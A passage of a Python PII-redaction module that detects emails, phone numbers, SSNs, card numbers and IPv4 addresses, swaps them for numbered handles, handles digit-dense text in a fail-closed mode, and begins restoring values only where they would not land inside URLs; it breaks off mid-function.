_SSN_LABEL_LAST = "nNyYrRoO.#sS\u017f"  # ssN securitY numbeR nO no. # and iS/waS (U+017F matches "s" too)


def _ipv4_ok(candidate: str, text: str, start: int) -> bool:
    lo = max(0, start - 24)
    if _ends_like_label(text, lo, start, ":", _VERSION_WORD_LAST) and _VERSION_WORD_RE.search(text, lo, start):
        return False
    return _valid_ipv4(candidate)


# -- detectors -------------------------------------------------------------------------------------
_EMAIL_LOCAL_RE = re.compile(r"(?<![\w%+.\-])[\w%+\-]+(?:[.'][\w%+\-]+)*@")
# "@" and a domain: labels cannot contain a dot, so backtracking is linear in the domain's length. A label's
# letters and digits are one repeat, hyphens start the next (the same strings as `(?:[^\W_]|-)*`, tried in the
# same order, without a group repeat at every character).
_EMAIL_AT_DOMAIN_RE = re.compile(r"@(?:[^\W_][^\W_]*(?:-[^\W_]*)*\.)+[^\W\d_]{2,63}(?![\w\-])")
_EMAIL_LOCAL_RUN_RE = re.compile(r"[\w%+\-.']*")  # the characters the left scan in _emails walks over
_DOUBLE_SEPARATOR_RE = re.compile(r"[.'](?=[.'])")
_MAX_LOCAL, _MAX_DOMAIN = 256, 255  # RFC 5321 allows 64 and 255; the local bound is generous on purpose


def _email_start(text: str, left: int, at: int) -> int:
    """Where EMAIL_RE's leftmost match ending at the "@" `at` starts, given the run of local characters from `left`.

    A match starts at `left` or right after an apostrophe (the only local character the lookbehind allows before
    it), and after the last doubled separator; so one look suffices instead of one regex match per position.
    """
    if at == left or text[at - 1] in ".'":
        return -1
    lowest = left
    for m in _DOUBLE_SEPARATOR_RE.finditer(text, left, at):
        lowest = m.start() + 1
    start = lowest
    while start < at:
        if (start == left or text[start - 1] == "'") and _EMAIL_LOCAL_RE.match(text, start, at + 1):
            return start
        apostrophe = text.find("'", start, at)
        if apostrophe < 0:
            return -1
        start = apostrophe + 1
    return -1


def _emails(text: str):
    """EMAIL_RE's matches, found from "@" + domain matches (in C) and one bounded look at each local part."""
    done = 0  # matches never overlap: nothing before the end of the previous one is looked at again
    call = current_call()
    for domain in _EMAIL_AT_DOMAIN_RE.finditer(text):
        if call.cancelled:
            call.stop()
        at = domain.start()
        if at < done or domain.end() - at - 1 > _MAX_DOMAIN:
            continue
        # The run of local characters before the "@", back to `done` and at most _MAX_LOCAL long: usually what
        # follows the last space, which one test in C confirms; otherwise character by character.
        lowest = max(done, at - _MAX_LOCAL)
        left = text.rfind(" ", lowest, at) + 1 or lowest
        if _EMAIL_LOCAL_RE.fullmatch(text, left, at + 1):  # the usual case: the whole run is the local part
            start = left
        else:
            if not _EMAIL_LOCAL_RUN_RE.fullmatch(text, left, at):
                left = at
                while left > lowest and (text[left - 1].isalnum() or text[left - 1] == "_"
                                         or text[left - 1] in _EMAIL_LOCAL_CHARS):
                    left -= 1
            start = _email_start(text, left, at)
        if start >= 0:
            yield _found((start, domain.end(), "EMAIL"))
            done = domain.end()


def _trunk0(region: str) -> bool:
    return phonenumbers.ndd_prefix_for_region(region, True) == "0"


def _phones(text: str, strict: bool, region: str, tally: _Tally | None = None):
    """The phone candidates that do not start a digit run: international ones and those in parentheses."""
    tally = tally or _Tally(_UNLIMITED)
    call = current_call()
    if "+" in text:
        for m in PHONE_INTL_RE.finditer(text):
            if call.cancelled:
                call.stop()
            tally.one()
            n = _longest_valid_prefix(m.group(), None)
            if n:
                yield _found((m.start(), m.start() + n, "PHONE"))
    if "(" in text:
        for m in PHONE_NANP_PAREN_RE.finditer(text):
            if call.cancelled:
                call.stop()
            tally.one()
            if _phone_ok(m.group(), "US"):
                yield _found((m.start(), m.end(), "PHONE"))
        if _trunk0(region):
            for m in PHONE_TRUNK0_PAREN_RE.finditer(text):
                if call.cancelled:
                    call.stop()
                tally.one()
                n = _longest_valid_prefix(m.group(), region)
                if n:
                    yield _found((m.start(), m.start() + n, "PHONE"))


def _ssn_ok(text: str, start: int, value: str, strict: bool) -> bool:
    # The cached validity test first: a label needs looking for only where the number alone does not count.
    if len(value) == 11:  # ###-##-####
        if _ssn_valid(value):
            return True
    elif strict and (start == 0 or text[start - 1] not in "+.") and _ssn_valid(value):
        return True
    lo = max(0, start - 48)
    return _ends_like_label(text, lo, start, ":#=", _SSN_LABEL_LAST) and \
        SSN_LABEL_BEFORE_RE.search(text, lo, start) is not None


_SHORT_RUN = 64  # runs up to this long are cached (a card with its neighbours); longer ones are rare and unique


def _card_run(run: str, trunk0: bool) -> tuple[tuple[int, int] | None, bool, bool]:
    """What _digit_run_candidates needs to know of a CARD run: where its longest, then earliest, card is (or
    None); whether a bounded detector may start at one of its groups after the first; and whether it ends in a
    group "1" (which, before " (", starts `1 (415) ...`)."""
    return _short_card_run(run, trunk0) if len(run) <= _SHORT_RUN else _find_card_run(run, trunk0)


@lru_cache(maxsize=8192)
def _short_card_run(run: str, trunk0: bool) -> tuple[tuple[int, int] | None, bool, bool]:
    return _find_card_run(run, trunk0)


def _find_card_run(run: str, trunk0: bool) -> tuple[tuple[int, int] | None, bool, bool]:
    # The scan goes on after the run; the bounded detectors still look at the groups inside it that one of them
    # can start with: 3 digits (SSN, NANP, and `1-415-...` has one), 9 or more (bare SSNs and phones), or a "0"
    # (trunk-0 numbers). Substring tests, in C.
    groups = run.replace("-", " ")
    shape = f"{groups} ".translate(_SHAPE)
    look_inside = " ddd " in shape or " ddddddddd" in shape or (trunk0 and " 0" in groups)
    return _find_card_in_run(run), look_inside, groups.endswith(" 1")


def _find_card_in_run(run: str) -> tuple[int, int] | None:
    if run.isdigit():  # one group (the scanner lets through only 13-19 digits starting with 2-6)
        return (0, len(run)) if _luhn_ok(run) else None
    shape = f" {run.translate(_SHAPE)} "
    if " dddd " not in shape and "d" * 13 not in shape or not _CARD_START_RE.search(run):
        return None  # the first test in C, for long runs of short groups; the second exact
    count, extra = divmod(len(run) + 1, 5)
    if not extra and shape == " " + "dddd " * count and len(set(run[4::5])) == 1:
        # 4-digit groups with one kind of separator, tested in C: a long run of them needs no split
        return _card_in_four_digit_groups(run.replace(run[4], ""), range(0, len(run), 5))
    parts = re.split(r"([ \-])", run)
    groups, seps = parts[0::2], parts[1::2]
    lengths = [len(g) for g in groups]
    digits = "".join(groups)
    offsets, doffsets, pos, dpos = [], [], 0, 0  # each group's start in the run, and in `digits`
    for n in lengths:
        offsets.append(pos)
        doffsets.append(dpos)
        pos, dpos = pos + n + 1, dpos + n
    doffsets.append(dpos)
    one_separator = len(set(seps)) <= 1  # then no window mixes separators, and none needs the test
    best = None  # (start, end) of the longest, then earliest, valid sub-run of whole groups
    for i, first_len in enumerate(lengths):
        if first_len != 4 and not 13 <= first_len <= 19 or digits[doffsets[i]] not in "23456":
            continue  # every card grouping starts with a 4-digit group, or is one run of 13-19 digits
        for j in range(i, min(i + 5, len(lengths))):
            count = doffsets[j + 1] - doffsets[i]
            if count > 19:
                break
            if count < 13 or not (one_separator or len(set(seps[i:j])) <= 1):
                continue
            window = tuple(lengths[i:j + 1])
            if (j == i or window in _CARD_GROUPINGS or (all(n == 4 for n in window[:-1]) and window[-1] <= 4)) \
                    and _luhn_ok(digits[doffsets[i]:doffsets[j + 1]]):
                first, last = offsets[i], offsets[j] + lengths[j]
                if best is None or (last - first, -first) > (best[1] - best[0], -best[0]):
                    best = (first, last)
    return best


_DIGIT_VALUES = bytes.maketrans(b"0123456789", bytes(range(10)))


def _card_in_four_digit_groups(digits: str, offsets: range) -> tuple[int, int] | None:
    """The earliest card in a run of 4-digit groups: only four whole groups (16 digits) can be one. Every window
    starts at an even index of `digits`, so the digits Luhn doubles are the even-indexed ones for all of them,
    and one running sum checks every window (a run of thousands of groups costs what typical text does). The
    sums, window totals and their remainders are worked out in C; Python looks only at windows whose Luhn sum
    is a multiple of 10."""
    doubled = digits[0::2].translate(_LUHN_DOUBLED)
    weights = bytearray(len(digits))
    weights[0::2], weights[1::2] = doubled.encode(), digits[1::2].encode()
    sums = [0, *itertools.accumulate(weights.translate(_DIGIT_VALUES))]
    # window i (groups i to i + 3) is digits 4i to 4i + 15: remainders[i] is its Luhn sum mod 10
    remainders = bytes(map((10).__rmod__, map(operator.sub, sums[16::4], sums[0::4])))
    i = remainders.find(0)
    while i >= 0:
        if digits[4 * i] in "23456":
            return offsets[i], offsets[i + 3] + 4
        i = remainders.find(0, i + 1)
    return None


def _judge_runs(m: re.Match, names: tuple[str, ...], done: list[int], text: str, strict: bool, region: str,
                out: list[Found], tally: _Tally) -> None:
    """Adds the candidates of a _digit_run_scanner match for the bounded detectors `names` (its groups from
    the second on) to `out`, each taken as its own pattern's finditer would give them: one starting inside the
    previous candidate of that detector (`done`, by position in `names`) is skipped."""
    start = m.start()
    regs = m.regs
    first = len(regs) - len(names)  # the group of names[0]
    # m.lastindex is the highest group set (the lookaheads set them in order): none after it needs a look, and
    # none of `names` is set where it comes before `first` (a CARD run alone).
    for i in range(m.lastindex - first + 1):
        end = regs[first + i][1]
        if end < 0 or start < done[i]:
            continue
        done[i] = end
        tally.one()
        name = names[i]
        value = text[start:end]
        if name == "SSN":
            if _ssn_ok(text, start, value, strict):
                out.append(_found((start, end, "SSN")))
        elif name == "IPV4":
            if _ipv4_ok(value, text, start):
                out.append(_found((start, end, "IPV4")))
        elif name == "NANP":
            if _phone_ok(value, "US"):
                out.append(_found((start, end, "PHONE")))
        elif name == "TRUNK0":
            n = _longest_valid_prefix(value, region)
            if n:
                out.append(_found((start, start + n, "PHONE")))
        elif _phone_ok(value, region) or _phone_ok("+" + value, None):  # BARE
            out.append(_found((start, end, "PHONE")))


def _bounded_runs(strict: bool, region: str) -> tuple[str, ...]:
    """The DIGIT_RUNS besides CARD that a call looks for: trunk-0 numbers only for regions that have them, bare
    runs only in strict mode."""
    return ("SSN", "IPV4", "NANP") + (("TRUNK0",) if _trunk0(region) else ()) + (("BARE",) if strict else ())


def _digit_run_candidates(text: str, strict: bool, region: str, tally: _Tally | None = None) -> list[Found]:
    """Cards, SSNs, IPv4 addresses and the phones that start a digit run, from one scan (_digit_run_scanner)."""
    tally = tally or _Tally(_UNLIMITED)
    bounded = _bounded_runs(strict, region)
    trunk0 = "TRUNK0" in bounded
    done = [0] * len(bounded)
    inside = _digit_run_scanner(bounded)
    out: list[Found] = []
    names = ("CARD",) + bounded
    call = current_call()  # stopped between two matches when the call is cancelled (reference_servers/limits.py)
    for m in _scan_matches(names, text):
        if call.cancelled:
            call.stop()
        _judge_runs(m, bounded, done, text, strict, region, out, tally)
        start, end = m.span()
        if m.regs[1][1] < 0:  # no CARD run
            continue
        card, look_inside, last_one = _card_run(text[start:end], trunk0)
        if card:
            out.append(_found((start + card[0], start + card[1], "CARD")))
        if look_inside or (last_one and text[end:end + 1] in (" ", ".", "-") and text[end + 1:end + 2] == "("):
            for n in inside.finditer(text, start + 1, end + _LONGEST_BOUNDED_RUN):
                if call.cancelled:
                    call.stop()
                if n.start() >= end:
                    break
                if n.lastindex is not None:
                    _judge_runs(n, bounded, done, text, strict, region, out, tally)
    return out


def find_pii(text: str, strict: bool = False, region: str = "US", seen: tuple | None = None) -> list[Found]:
    """Every PII span of `text`, non-overlapping, in text order (see the module docstring), within the validation
    budget of the caller's `budgeted` block, or one of its own for `text`; `seen` is its detection_view if the
    caller has it."""
    with budgeted(len(text)):
        return _find_pii(text, strict, region, seen=seen)


def _find_pii_unbudgeted(text: str, strict: bool = False, region: str = "US") -> list[Found]:
    """find_pii asking the libraries about every candidate, never in dense mode (for the tests to compare
    against)."""
    outer = getattr(_budgets, "current", None)
    _budgets.current = None
    try:
        return _find_pii(text, strict, region, dense=False)
    finally:
        _budgets.current = outer


def _find_pii(text: str, strict: bool, region: str, dense: bool = True, seen: tuple | None = None) -> list[Found]:
    literals = [_found((m.start(), m.end(), "LITERAL")) for m in HANDLE_RE.finditer(text)] if "[" in text else []
    view, breaks = seen or detection_view(text)  # invisible characters, fullwidth forms, other scripts' digits
    if dense and _dense_at_sight(view):
        return _find_pii_dense(text, view, breaks)
    candidates = list(_emails(view)) if "@" in view else []
    if _ANY_DIGIT_RE.search(view):  # every other detector needs a digit
        tally = _Tally(_candidate_allowance(len(view)) if dense else _UNLIMITED)
        try:
            candidates += _digit_run_candidates(view, strict, region, tally)
            candidates += _phones(view, strict, region, tally)
        except _TooDense:
            return _find_pii_dense(text, view, breaks)
    if not candidates:
        return literals
    if breaks:  # back to the original's offsets: a span keeps the invisible characters inside it
        candidates = [_found((original_offset(breaks, f.start), original_offset(breaks, f.end - 1) + 1, f.kind))
                      for f in candidates]
    # Overlaps are resolved within each group of spans that overlap one another, and most spans overlap none: a
    # group starts where a span reaches past the next one's start (found in C), and the spans between groups stay.
    spans = sorted(literals + candidates)
    starts, ends = list(map(_START, spans)), list(map(_END, spans))
    overlapping = [k for k, clear in enumerate(map(operator.le, ends, starts[1:])) if not clear]
    if not overlapping:
        return spans
    chosen, i = [], 0
    budget = getattr(_budgets, "current", None)
    # Once the budget is spent some spans are guesses, and the longest of two overlapping ones could leave the
    # rest of a real number out: the spans of each overlapping group are merged into one instead (fail closed).
    resolve = _merge_overlaps if budget is not None and budget.failed_closed else _resolve_overlaps
    for k in overlapping:
        if k < i:  # inside the group before
            continue
        chosen += spans[i:k]
        j, reach = k + 1, ends[k]
        while j < len(spans) and starts[j] < reach:
            reach = max(reach, ends[j])
            j += 1
        chosen += resolve(spans[k:j])
        i = j
    chosen += spans[i:]
    return chosen


def _merge_overlaps(spans: list[Found]) -> list[Found]:
    """One span over a whole group of overlapping spans, of the kind _resolve_overlaps would have kept first;
    a group with handle-shaped text in it is resolved as usual (its brackets are never part of a candidate)."""
    if any(f.kind == "LITERAL" for f in spans):
        return _resolve_overlaps(spans)
    first = min(spans, key=lambda f: (f.start - f.end, f.start, PRIORITY[f.kind]))
    return [_found((min(map(_START, spans)), max(map(_END, spans)), first.kind))]


def _resolve_overlaps(spans: list[Found]) -> list[Found]:
    """The spans kept, in text order: handle-shaped text first, then the longest, then the one that starts first,
    then by type (PRIORITY); a span overlapping one kept is dropped."""
    literals = [f for f in spans if f.kind == "LITERAL"]
    candidates = sorted((f for f in spans if f.kind != "LITERAL"),
                        key=lambda f: (f.start - f.end, f.start, PRIORITY[f.kind]))
    starts = [f.start for f in literals]  # chosen spans never overlap
    ends = [f.end for f in literals]
    chosen = list(literals)
    for f in candidates:
        i = bisect.bisect_right(starts, f.start)
        if i > 0 and ends[i - 1] > f.start:  # the chosen span starting at or before f reaches into it
            continue
        if i < len(starts) and starts[i] < f.end:  # the next chosen span starts inside f
            continue
        starts.insert(i, f.start)
        ends.insert(i, f.end)
        chosen.append(f)
    chosen.sort()
    return chosen


# -- dense texts --------------------------------------------------------------------------------------
# A text whose candidates come every few characters (random digits in the groupings of phone numbers, SSNs,
# addresses, cards) cannot be validated within its budget anyway, and reading it through the detectors above
# costs 5-10 us of Python per candidate (matching, judging, validating or failing closed, resolving overlaps):
# 10-90 times typical text. Such a text is read in DENSE mode instead, by shape (_DENSE_NUMBER and its neighbours below), fail closed.
#
# The decision is made on the text alone, before anything is validated: dense if more than _DENSE_DIGIT_PERCENT
# of its characters (and _DENSE_DIGITS_BASE) are digits, counted in C (every generated adversarial shape is
# 40-90% digits; typical text, prose with a value in one sentence of four, bench_middleware_functions.mixed_text,
# about 15%); or, for shapes with fewer digits, as soon as the validated path has judged more than
# _DENSE_CANDIDATES_BASE + _DENSE_CANDIDATES_PER_KIB per KiB candidates (it then stops and the text is read in
# dense mode; typical text has about 4 per KiB, the generated shapes 40-80).
_DENSE_DIGIT_PERCENT, _DENSE_DIGITS_BASE = 30, 64
_DENSE_CANDIDATES_BASE, _DENSE_CANDIDATES_PER_KIB = 16, 12
_DIGIT_BYTES = b"0123456789"


def _dense_at_sight(view: str) -> bool:
    encoded = view.encode("utf-8", "surrogatepass")  # C: deleting bytes is much faster than counting characters
    digits = len(encoded) - len(encoded.translate(None, _DIGIT_BYTES))
    return 100 * (digits - _DENSE_DIGITS_BASE) > _DENSE_DIGIT_PERCENT * len(view)


def _candidate_allowance(chars: int) -> int:
    """How many candidates the validated path judges in a text of `chars` characters before it gives the text
    to dense mode."""
    return _DENSE_CANDIDATES_BASE + _DENSE_CANDIDATES_PER_KIB * chars // 1024


class _TooDense(Exception):
    """The validated path met more candidates than _candidate_allowance: the text is read in dense mode."""


_UNLIMITED = 1 << 62


class _Tally:
    """Candidates the validated path may still judge in the text at hand (`left`); `judged` counts them all,
    for the tests (a deterministic measure of the per-candidate Python work)."""

    __slots__ = ("left", "judged")

    def __init__(self, left: int):
        self.left, self.judged = left, 0

    def one(self) -> None:
        self.judged += 1
        self.left -= 1
        if self.left < 0:
            raise _TooDense


# Dense mode reads shapes, not detectors, with compiled splits (in C) of the text with its invisible characters
# dropped, as the detection view drops them (emails first, _DENSE_EMAIL; then _dense_pattern). Its spans are:
# - handle-shaped text (`[EMAIL_1]`), kept as a LITERAL handle as everywhere else;
# - an EMAIL of a broad shape (a run of local-part characters, "@", a run of domain characters, a dot and two or
#   more letters): it holds every address the EMAIL detector finds;
# - a NUMBER: a run of digits (a "+" or "(" before its first, a ")" after its last) with at most three separators
#   (space, dot, dash, parentheses) between two digits, of seven digits or more (every phone number, SSN and card
#   has that many), or a dotted quad (an IPv4 address has as few as four).
# A span the validated path finds is made of digits and those separators, never more than three in a row (or of
# an email's characters), so it lies inside one span of dense mode: dense mode never keeps what that path
# redacts; it redacts look-alikes and the figures around numbers too (a table of figures becomes NUMBER
# handles), which only a text that dense pays for. Offsets go back to the original text in bulk
# (_original_offsets); a span longer than _DENSE_PIECE characters (a text that is one long run of groups) is
# redacted in consecutive pieces.
# The patterns read the text itself, not the detection view (whose translation of other scripts' digits and
# fullwidth forms costs as much as the scan): a digit is any decimal digit (`\d`, the digits the view reads as
# ASCII), and each ASCII punctuation mark stands with its fullwidth form. Handle-shaped text is ASCII, as
# the validated path reads it.
def _wide(marks: str) -> str:
    """`marks` and their fullwidth forms, escaped for a character class."""
    return re.escape(marks + "".join(chr(ord(c) + 0xFEE0) for c in marks))


_DENSE_LITERAL = rf"\[{HANDLE_NAME}\]"
_LOCAL_MARKS = "%+-.'_"
_LOCAL = rf"[\w{_wide(_LOCAL_MARKS)}]"
_DENSE_EMAIL = (rf"(?<!{_LOCAL}){_LOCAL}+[{_wide('@')}][\w{_wide('-._')}]+[{_wide('.')}][^\W\d_]{{2,63}}")
_DENSE_SEP = f"[ {_wide('.-()')}{re.escape(SPACES + DASHES)}]"  # and every Unicode space and dash, as the view
_DENSE_NUMBER = (rf"[{_wide('+')}]?[{_wide('(')}]?\d(?:{_DENSE_SEP}{{0,3}}\d){{6,}}[{_wide(')')}]?"
                 rf"|(?<!\d)\d{{1,3}}(?:[{_wide('.')}]\d{{1,3}}){{3}}(?!\d)")
_DENSE_PIECE = 64


@lru_cache(maxsize=2)
def _dense_pattern(brackets: bool) -> re.Pattern:
    """The pattern of dense mode's numbers, with handle-shaped text first where the text has a "["."""
    return re.compile("(" + "|".join([_DENSE_LITERAL] * brackets + [_DENSE_NUMBER]) + ")")


_DENSE_EMAIL_RE = re.compile(f"({_DENSE_EMAIL})")


def _spans_of(parts: list[str]) -> tuple[list[int], list[int], list[str]]:
    """The starts, ends and texts of the spans of a split by a pattern with one group (gap, span, ..., gap)."""
    bounds = list(itertools.accumulate(map(len, parts)))
    return bounds[0:-1:2], bounds[1::2], parts[1::2]


def _dense_kind(value: str) -> str:
    return "LITERAL" if value[0] == "[" else "NUMBER"


def _mask(match: re.Match) -> str:
    return "\x00" * (match.end() - match.start())


def _original_offsets(breaks: list[tuple[int, int]], offsets: list[int]) -> list[int]:
    """original_offset of each of `offsets`, in bulk (bisect and addition mapped in C)."""
    keys = [(offset, float("inf")) for offset, _ in breaks]
    shift = [0, *(dropped for _, dropped in breaks)]
    where = map(bisect.bisect_right, itertools.repeat(keys), zip(offsets, itertools.repeat(float("inf"))))
    return list(map(operator.add, offsets, map(shift.__getitem__, where)))


def _find_pii_dense(text: str, view: str, breaks: list[tuple[int, int]]) -> list[Found]:
    """find_pii's answer in dense mode (see _DENSE_NUMBER): the spans come from one split of the text (its invisible
    characters dropped, as in the view), their offsets from the lengths of its parts, all in C but the kinds."""
    call = current_call()
    if call.cancelled:
        call.stop()
    base = drop_invisible(text) if breaks else text  # the view's offsets, the text's characters
    emails: list[Found] = []
    if "@" in view:  # emails first, then numbers in what is left: a number never eats into an address's local part
        starts, ends, _ = _spans_of(_DENSE_EMAIL_RE.split(base))
        if starts:
            emails = list(map(_found, zip(starts, ends, itertools.repeat("EMAIL"))))
            base = _DENSE_EMAIL_RE.sub(_mask, base)
    starts, ends, values = _spans_of(_dense_pattern("[" in base).split(base))  # in C
    if call.cancelled:
        call.stop()
    kinds = list(map(_dense_kind, values)) if "[" in base else ["NUMBER"] * len(values)
    if emails:
        spans = sorted(emails + list(map(_found, zip(starts, ends, kinds))))
        starts, ends, kinds = list(map(_START, spans)), list(map(_END, spans)), list(map(_KIND, spans))
    if breaks:  # a span keeps the invisible characters inside it, as on the validated path
        starts = _original_offsets(breaks, starts)
        ends = [end + 1 for end in _original_offsets(breaks, [end - 1 for end in ends])]
    found = list(map(_found, zip(starts, ends, kinds)))
    if found and (breaks or emails or max(map(len, values)) > _DENSE_PIECE):
        found = [piece for f in found for piece in (
            [f] if f.end - f.start <= _DENSE_PIECE else
            [_found((lo, min(lo + _DENSE_PIECE, f.end), f.kind)) for lo in range(f.start, f.end, _DENSE_PIECE)])]
    return found


# -- the handle map ----------------------------------------------------------------------------------
class HandleMap:
    """Handle <-> value, numbered per type; seeded from a previous call's map to continue a session."""

    def __init__(self, existing: dict | None = None):
        self.values: dict[str, str] = {}
        self._by_kind: dict[str, dict[str, str]] = {}  # kind -> value -> handle
        self._last: dict[str, int] = {}
        for handle, value in validate_map(existing or {}, "redactions").items():
            kind, _, number = handle.rpartition("_")
            self.values[handle] = value
            self._by_kind.setdefault(kind, {}).setdefault(value, handle)
            self._last[kind] = max(self._last.get(kind, 0), int(number))

    def handle_for(self, kind: str, value: str) -> str:
        return self.handles_of(kind, [value])[value]

    def handles_of(self, kind: str, values: list[str]) -> dict[str, str]:
        """The value -> handle map of `kind`, with a handle for each of `values` (new ones numbered in bulk, in
        order, from the highest of the kind, so no new name can be one the map has): where a dense text has
        thousands of new values, one range of numbers and a few passes in C."""
        known = self._by_kind.setdefault(kind, {})
        new = list(dict.fromkeys(itertools.filterfalse(known.__contains__, values)))
        if new and kind == "NUMBER" and len(self._by_kind) > 1:
            # Dense mode's NUMBER is a shape, not a type: a value the session already has a handle for (an earlier
            # call's PHONE_1) keeps it.
            others = {value: handle for k, handles in self._by_kind.items() if k != kind
                      for value, handle in handles.items()}
            known.update((value, others[value]) for value in new if value in others)
            new = list(itertools.filterfalse(known.__contains__, new))
        if new:
            last = self._last.get(kind, 0)
            self._last[kind] = last + len(new)
            names = list(map(f"{kind}_{{}}".format, range(last + 1, last + 1 + len(new))))
            known.update(zip(new, names))
            self.values.update(zip(names, new))
        return known

    def handles_for(self, keys: list[tuple[str, str]]) -> list[str]:
        """handle_for of each of the `keys` (kind, value), numbered in the order the keys come, kind by kind as
        they appear."""
        if not keys:
            return []
        kinds = list(dict.fromkeys(map(_FIRST, keys)))
        if len(kinds) == 1:
            return list(map(self.handles_of(kinds[0], list(map(_SECOND, keys))).__getitem__, map(_SECOND, keys)))
        before = len(self.values)
        maps = {kind: self.handles_of(kind, [value for k, value in keys if k == kind]) for kind in kinds}
        names = [maps[kind][value] for kind, value in keys]
        if len(self.values) > before:  # the new handles in the order their values came, across kinds
            added = set(itertools.islice(self.values, before, None))
            for name in dict.fromkeys(filter(added.__contains__, names)):
                self.values[name] = self.values.pop(name)
        return names


def validate_map(mapping, name: str) -> dict[str, str]:
    if not isinstance(mapping, dict):
        raise ValueError(f"{name} must be an object mapping handles like EMAIL_1 to the original values")
    for handle, value in mapping.items():
        if not isinstance(handle, str) or not HANDLE_NAME_RE.match(handle):
            raise ValueError(f"{name}: {handle!r} is not a handle name like EMAIL_1 (TYPE_N, upper case, no brackets)")
        if not isinstance(value, str):
            raise ValueError(f"{name}: the value of {handle} must be a string")
    return mapping


def redact_text(text: str, handles: HandleMap, strict: bool = False, region: str = "US",
                counts: dict[str, int] | None = None) -> str:
    view, breaks = detection_view(text)
    if not breaks and "@" not in view and _dense_at_sight(view):
        return _redact_dense(text, handles, counts)
    found = find_pii(text, strict, region, seen=(view, breaks))
    if not found:
        return text
    call = current_call()
    if call.cancelled:
        call.stop()
    # In bulk, in C where it can be: a dense text has a span every few characters.
    starts, ends = list(map(_START, found)), list(map(_END, found))
    keys = list(zip(map(_KIND, found), map(text.__getitem__, map(slice, starts, ends))))
    tags = map("[{}]".format, handles.handles_for(keys))  # numbered as they appear
    gaps = map(text.__getitem__, map(slice, [0, *ends], starts))
    if counts is not None:
        for kind, n in Counter(map(_KIND, found)).items():
            counts[kind] = counts.get(kind, 0) + n
    return "".join(itertools.chain.from_iterable(zip(gaps, tags))) + text[ends[-1]:]


def _redact_dense(text: str, handles: HandleMap, counts: dict[str, int] | None) -> str:
    """redact_text of a dense text without invisible characters or "@" (_find_pii_dense's spans), from the parts
    of the split themselves: no span objects, no slicing."""
    call = current_call()
    parts = _dense_pattern("[" in text).split(text)  # gap, span, gap, span, ..., gap
    if call.cancelled:
        call.stop()
    values = parts[1::2]
    if not values:
        return text
    if max(map(len, values)) > _DENSE_PIECE:  # a long run: as consecutive pieces, with empty gaps between
        pieces = [parts[0]]
        for value, gap in zip(values, parts[2::2]):
            for lo in range(0, len(value), _DENSE_PIECE):
                pieces += [value[lo:lo + _DENSE_PIECE], ""]
            pieces[-1] = gap
        parts, values = pieces, pieces[1::2]
    if "[" in text:
        kinds = list(map(_dense_kind, values))
        names = handles.handles_for(list(zip(kinds, values)))
    else:  # one kind: the kind's own map, no keys to build
        kinds = ["NUMBER"] * len(values)
        names = list(map(handles.handles_of("NUMBER", values).__getitem__, values))
    if counts is not None:
        for kind, n in Counter(kinds).items():
            counts[kind] = counts.get(kind, 0) + n
    pieces = zip(parts[0::2], itertools.repeat("["), names, itertools.repeat("]"))
    return "".join(itertools.chain.from_iterable(pieces)) + parts[-1]


# Where a restored value would leave the text: the whitespace-free token a handle sits in is part of a markdown
# link/image destination ("](" not yet closed), a bare URL ("://"), an autolink or mailto/data URI, or an
# href/src value. Only the tokens around handles are looked at, so restoring 1 MB costs what the handles cost.
# The first character of a marker is tested before the rest (a lookbehind names the word), so most positions
# fail in one step; the earliest marker in a token ends first (no marker lies inside another and ends sooner).
_URL_MARKER_RE = re.compile(r"://|[hHsSaAfF](?i:(?<=h)ref|(?<=s)rc|(?<=a)ction|(?<=f)ormaction)\s*=")
_URL_SCHEME_RE = re.compile(r"<?(?i:mailto|data):")  # at the token's start only
_TOKEN_END_RE = re.compile(r"[ \n\t\r]")


class UrlTokens:
    """`in_url(position)`, asked for the handles of one text in text order: whether the token before the handle
    (from the last space, newline, tab or CR before it, however far back) makes it part of a URL.

    Linear in the text: a token is read once, when its first handle is asked about (where its first URL marker
    ends, found by one scan), and between two handles of a token only the characters between them are read
    (whether a "](" opened a link destination that no ")" has closed). A run of handles with no space between
    them (`x[EMAIL_1][EMAIL_1]...`) used to cost a 4,096-character look-back per handle. `looked_at` counts the
    characters read, for the tests.
    """

    def __init__(self, text: str):
        self.text = text
        self.start = self.end = 0  # the current token, text[start:end]; none yet
        self.marker_end = 0  # where the token's first URL marker ends (beyond `end` if it has none)
        self.scanned = 0  # how far the link state has been read
        self.link_open = False
        self.looked_at = 0
        self.url_until = 0  # every handle before this position is in a URL (see in_url)

    def in_url(self, position: int) -> bool:
        text = self.text
        if position >= self.end:  # a new token: no whitespace between the previous token's end and it?
            lo = self.end
            self.start = max(text.rfind(space, lo, position) for space in " \n\t\r") + 1 or lo
            found = _TOKEN_END_RE.search(text, position)
            self.end = found.start() if found else len(text)
            self.looked_at += 4 * (position - lo) + (self.end - position) + 3 * (self.end - self.start)
            if text.find(":", self.start, self.end) < 0 and text.find("=", self.start, self.end) < 0:
                self.marker_end = self.end + 1  # every marker has one of the two: the usual token needs no scan
            else:
                first = _URL_MARKER_RE.search(text, self.start, self.end)
                ends = [first.end()] if first else []
                scheme = _URL_SCHEME_RE.match(text, self.start, self.end)
                self.marker_end = min(ends + ([scheme.end()] if scheme else []), default=self.end + 1)
            self.scanned, self.link_open = self.start, False
        link = text.rfind("](", self.scanned, position)
        if link >= 0:
            self.link_open = text.find(")", link, position) < 0
        elif self.link_open and text.find(")", self.scanned, position) >= 0:
            self.link_open = False
        self.looked_at += 2 * (position - self.scanned)
        self.scanned = position
        # Whether the handles after this one are in a URL is known up to a point, so that a run of them is not
        # asked about one by one: past the token's first marker, all of the token; in an open link destination,
        # up to the next ")" (a "](" between reopens one, and only a ")" closes it).
        if self.marker_end <= position:
            self.url_until = self.end
        elif self.link_open:
            close = text.find(")", position, self.end)
            self.url_until = self.end if close < 0 else close
            self.looked_at += self.url_until - position
        return self.link_open or self.marker_end <= position


def restore_text(text: str, redactions: dict[str, str], unknown: list[str] | None = None,
                 in_urls: bool = True, kept: list[str] | None = None,
                 max_chars: int | None = None) -> tuple[str, int]:
    """`text` with each handle of `redactions` replaced by its value (see the module docstring), and how many
    were; LimitExceeded (maxOutputChars) as soon as the result would be longer than `max_chars` (by default
    what the running call may write, reference_servers/limits.py)."""
    if "[" not in text:
        return text, 0
    # Split in C into text, handle name, text, ...; then one short step per handle (a callback per match, as
    # re.sub would make, costs several times more where a text is all handles).
    parts = HANDLE_RE.split(text)
    restored = 0
    urls = UrlTokens(text)
    listed_unknown, listed_kept = set(unknown or ()), set(kept or ())  # `in` on the lists would be quadratic
    call = current_call()
    # What the restored text will hold, counted as values go in: a value of megabytes behind a handle written
